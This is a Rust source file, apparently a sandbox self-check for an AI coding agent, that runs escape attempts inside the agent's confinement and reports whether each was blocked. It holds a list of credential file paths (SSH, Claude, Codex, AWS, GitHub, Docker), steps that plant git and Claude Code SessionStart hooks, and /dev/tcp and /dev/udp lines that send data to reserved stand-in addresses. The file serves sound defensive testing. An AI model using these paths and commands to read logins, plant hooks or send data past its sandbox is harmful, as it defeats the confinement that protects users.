//! What the documents call dangerous, tried inside the sandbox. Nothing of it does harm where it is
//! not prevented: files are new and empty, and the names belong to nobody.

use onloop_agents::confine::agent_network;
use onloop_effect::{
    Durability, Expect, Io, Mechanism, Network, ProcessEnd, ProcessSpec, ProcessStatus, Shell,
};
use onloop_engine::error::CommandError;
use onloop_engine::git::checkout;
use onloop_engine::sandbox::confinement::Confined;
use onloop_syntax::text::shell_word;

/// A host that no list has. RFC 6761 reserves its last part.
const HOST: &str = "onloop-doctor.invalid";

/// Files with logins, below a home folder. The first that is there is tried.
const LOGINS: [&str; 8] = [
    ".ssh",
    ".claude/.credentials.json",
    ".codex/auth.json",
    ".aws/credentials",
    ".config/gh/hosts.yml",
    ".git-credentials",
    ".netrc",
    ".docker/config.json",
];

/// What a program in the sandbox tries.
struct Attempt {
    what: String,
    line: String,
    /// How one sees whether it succeeded.
    success: Success,
}

/// The sign of a success.
enum Success {
    /// Exit code 0.
    Exit,
    /// The file is there after the program has ended.
    File(String),
    /// The proxy has not named the host as refused.
    NotRefused,
}

/// Tries everything with a mechanism that works. Returns a line for each attempt, and whether all
/// were prevented.
pub(super) async fn attempt_escapes(
    io: &Io,
    mechanism: Mechanism,
) -> Result<(Vec<String>, bool), CommandError> {
    let network = match mechanism {
        Mechanism::Bubblewrap => agent_network(),
        Mechanism::Landlock | Mechanism::Seatbelt => Network::All,
    };
    let has_names = network.is_list();
    let cwd = &io.start().cwd;
    let confined = Confined::prepare(io, cwd, None, network, Some(mechanism)).await?;
    let probe = probe(io).await;
    let mut attempts = files(io).await;
    attempts.extend(reads(io, probe.as_deref()).await);
    if has_names {
        attempts.extend(connections());
    }
    let (mut lines, mut all_held) = (Vec::new(), true);
    for Attempt { what, line, success } in attempts {
        let spec = ProcessSpec::shell(Shell::Bash, line).in_folder(cwd.clone()).timeout_ms(10_000);
        let Ok(end) = io.process(confined.apply(io, spec)).await else {
            all_held = false;
            lines.push(format!("  ✗ not tried: {what}"));
            continue;
        };
        let is_held = !succeeded(io, &success, &end).await;
        all_held &= is_held;
        let mark = if is_held { "✓ held" } else { "✗ not held" };
        lines.push(format!("  {mark}: {what}"));
    }
    if !has_names {
        let by = mechanism.as_str();
        lines.push(format!("  · not limited by {by}: which hosts are reached"));
        lines.push(format!("  · not hidden by {by}: names and sizes of files"));
    }
    confined.remove(io).await;
    if let Some(probe) = probe {
        let _ = io.remove(&probe).await;
    }
    Ok((lines, all_held))
}

async fn succeeded(io: &Io, success: &Success, end: &ProcessEnd) -> bool {
    match success {
        Success::Exit => end.status == ProcessStatus::Exited(0),
        Success::File(path) => {
            let is_there = io.stat(path).await.is_ok();
            if is_there {
                let _ = io.remove(path).await;
            }
            is_there
        }
        Success::NotRefused => !end.refused.iter().any(|refused| refused.name == HOST),
    }
}

/// A record of ours, which no program in a sandbox reads; `None`: it cannot be made.
async fn probe(io: &Io) -> Option<String> {
    let path = format!("{}/doctor-probe", io.start().state_home()?);
    let written = io.write_private(&path, b"x\n".to_vec(), Expect::Any, Durability::Relaxed).await;
    written.ok().map(|_| path)
}

/// Files that a client or git obeys outside. A file that is there already is left alone.
async fn files(io: &Io) -> Vec<Attempt> {
    let mut places = Vec::new();
    if let Some(checkout) = checkout::find(io, &io.start().cwd).await {
        let common = checkout.common_folder(io).await;
        places.push(("write a git hook", format!("{common}/hooks/onloop-doctor")));
        places.push(("write settings of git", format!("{common}/config.worktree")));
        if io.stat(&format!("{}/.claude", checkout.root)).await.is_ok() {
            let settings = format!("{}/.claude/settings.local.json", checkout.root);
            places.push(("write a SessionStart hook into the checkout's settings", settings));
        }
    }
    if let Some(home) = io.env("HOME") {
        let what = "write into the folder of Claude Code, where its hooks are";
        places.push((what, format!("{}/.claude/onloop-doctor", home.trim_end_matches('/'))));
    }
    let mut attempts = Vec::new();
    for (what, path) in places {
        if io.stat(&path).await.is_err() {
            let (word, what) = (shell_word(&path), what.to_owned());
            attempts.push(Attempt {
                what,
                line: format!(": > {word}"),
                success: Success::File(path),
            });
        }
    }
    attempts
}

async fn reads(io: &Io, probe: Option<&str>) -> Vec<Attempt> {
    let read = |what: String, path: &str| {
        let word = shell_word(path);
        // Landlock shows names. A file has to give a byte.
        let line = format!(
            "find -H {word} -type f -exec cat {{}} \\; 2>/dev/null | head -c 1 | grep -q ''"
        );
        Attempt { what, line, success: Success::Exit }
    };
    let mut attempts = Vec::new();
    attempts.extend(probe.map(|path| read("read the records of runs".to_owned(), path)));
    if let Some(home) = io.env("HOME") {
        for login in LOGINS {
            let path = format!("{}/{login}", home.trim_end_matches('/'));
            if io.stat(&path).await.is_ok() {
                attempts.push(read(format!("read a login: ~/{login}"), &path));
                break;
            }
        }
    }
    attempts
}

fn connections() -> Vec<Attempt> {
    let (host, port) = Network::PROXY;
    let through = format!(
        "exec 3<>/dev/tcp/{host}/{port} && printf 'CONNECT {HOST}:443 HTTP/1.1\\r\\n\\r\\n' >&3 && \
         read -r line <&3"
    );
    let attempt =
        |what: &str, line: String, success| Attempt { what: what.to_owned(), line, success };
    vec![
        attempt("reach a host that is not allowed", through, Success::NotRefused),
        // Documentation has this address for itself (RFC 5737).
        attempt(
            "reach an address past the proxy",
            "exec 3<>/dev/tcp/192.0.2.53/443".to_owned(),
            Success::Exit,
        ),
        attempt(
            "send a question about a name",
            "printf 'secret' >/dev/udp/192.0.2.53/53".to_owned(),
            Success::Exit,
        ),
    ]
}
